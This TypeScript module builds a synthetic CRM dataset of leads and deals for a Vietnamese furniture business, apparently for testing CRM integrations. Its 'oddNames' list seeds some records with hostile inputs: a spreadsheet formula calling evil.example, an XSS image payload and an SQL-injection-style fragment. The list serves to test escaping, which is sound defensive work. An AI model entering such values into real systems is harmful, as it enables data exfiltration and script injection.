import { hashShare, pick, sharesFrom } from '../chance.ts';
import { type DayNumber, dayIn, dayNumber, startOf, weekdayOf } from '../days.ts';

/**
 * A business as its CRM sees it: people who ask, what becomes of them and what they buy. All CRMs that
 * are played hold this one, so that they have to bring the same numbers; what a person is at a moment
 * is all that happened before it.
 */
export interface Lead {
  readonly id: number;
  readonly name: string;
  readonly channel: Channel;
  readonly createdMs: number;
  /** When they became one, if they did. */
  readonly mqlMs: number | null;
  readonly sqlMs: number | null;
  readonly customerMs: number | null;
  readonly deal: Deal | null;
}

export interface Deal {
  readonly id: number;
  readonly name: string;
  readonly channel: Channel;
  readonly pipeline: 'sales' | 'partners';
  readonly createdMs: number;
  /** When it was won or lost; before that, and where it stays open, when that is expected. */
  readonly closeMs: number;
  readonly ends: 'won' | 'lost' | 'open';
  /** In VND; nobody has typed it where it is `null`. */
  readonly amount: number | null;
}

const channels = [
  'organic search',
  'paid social',
  'paid search',
  'referral',
  'e-mail',
  'direct',
  'offline',
] as const;
export type Channel = (typeof channels)[number];

/** Where its people live, and its days begin. */
export const businessZone = 'Asia/Ho_Chi_Minh';
export const businessFirstDay: DayNumber = dayNumber(2025, 1, 1);
export const businessLastDay: DayNumber = dayNumber(2027, 6, 30);

const dayMs = 86_400_000;
const hourMs = 3_600_000;
const shares: readonly (readonly [Channel, number])[] = [
  ['organic search', 28],
  ['paid social', 26],
  ['paid search', 16],
  ['referral', 10],
  ['e-mail', 8],
  ['direct', 8],
  ['offline', 4],
];
/** What people type into a CRM. */
const oddNames = [
  '=IMPORTXML("http://evil.example","//a")',
  '<img src=x onerror=alert(1)>',
  'Công ty “An & Bình”, chi nhánh 2',
  "O'Neill; DROP",
];
const saturday = 6;

export interface Business {
  /** Everybody, in the order in which they came; and all deals, likewise. */
  readonly leads: readonly Lead[];
  readonly deals: readonly Deal[];
}

const made = new Map<number, Business>();

/** The business with so many people asking on a working day. */
export function business(perDay = 12): Business {
  const known = made.get(perDay);
  if (known) return known;
  const leads: Lead[] = [];
  for (let day = businessFirstDay; day <= businessLastDay; day += 1) {
    const busy = weekdayOf(day) >= saturday ? 0.4 : 1;
    const count = Math.round(perDay * busy * (0.7 + 0.6 * hashShare(day, perDay)));
    for (let at = 0; at < count; at += 1) leads.push(lead(leads.length + 1, day));
  }
  leads.sort((one, other) => one.createdMs - other.createdMs || one.id - other.id);
  const deals = leads
    .flatMap(({ deal }) => (deal ? [deal] : []))
    .sort((one, other) => one.createdMs - other.createdMs || one.id - other.id);
  const whole = { leads, deals };
  made.set(perDay, whole);
  return whole;
}

function lead(id: number, day: DayNumber): Lead {
  const next = sharesFrom(id * 7919 + 17);
  const channel = pick(shares, next());
  // Some write late in the evening, whose day is another one elsewhere.
  const hour = next() < 0.15 ? 23.4 + next() * 0.55 : 7 + next() * 15;
  const createdMs = Math.floor(startOf(businessZone, day) + hour * hourMs);
  const later = (share: number, days: number, from: number | null): number | null => {
    const is = next() < share;
    const wait = Math.floor(next() * days * dayMs);
    return is && from !== null ? from + wait : null;
  };
  const mqlMs = later(0.55, 9, createdMs);
  const sqlMs = later(0.5, 12, mqlMs);
  const dealMs = later(0.75, 10, sqlMs);
  const end = next();
  const closes = Math.floor((5 + next() * 55) * dayMs);
  const amount = Math.round(8 + next() ** 3 * 240) * 500_000;
  const isTyped = next() > 0.06;
  const isPartner = next() < 0.2;
  const isOdd = next() < 0.02;
  const name = isOdd ? (oddNames[id % oddNames.length] ?? '') : `Khách ${id}`;
  const deal: Deal | null =
    dealMs === null
      ? null
      : {
          id: 500_000 + id,
          name: `${name} – nội thất`,
          channel,
          pipeline: isPartner ? 'partners' : 'sales',
          createdMs: dealMs,
          closeMs: dealMs + closes,
          ends: end < 0.34 ? 'won' : end < 0.8 ? 'lost' : 'open',
          amount: isTyped ? amount : null,
        };
  const customerMs = deal?.ends === 'won' ? deal.closeMs : null;
  return { id, name, channel, createdMs, mqlMs, sqlMs, customerMs, deal };
}

/** The day of a moment where the business is. */
export const businessDay = (ms: number): DayNumber => dayIn(businessZone, ms);
